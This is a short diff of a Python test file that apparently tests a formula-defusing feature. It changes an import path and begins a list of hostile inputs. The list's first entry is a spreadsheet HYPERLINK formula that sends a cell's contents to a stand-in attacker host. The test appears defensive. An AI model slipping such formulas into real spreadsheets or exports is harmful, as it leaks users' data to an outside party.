@@ -18,7 +18,7 @@ from batchrun.cli import main
 from batchrun.label.formulas import defuse
 
 from ..helpers import read_jsonl
-from .test_hostile_endpoint import RawServer, Seen, http
+from ..rawserver import RawServer, Seen, http
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
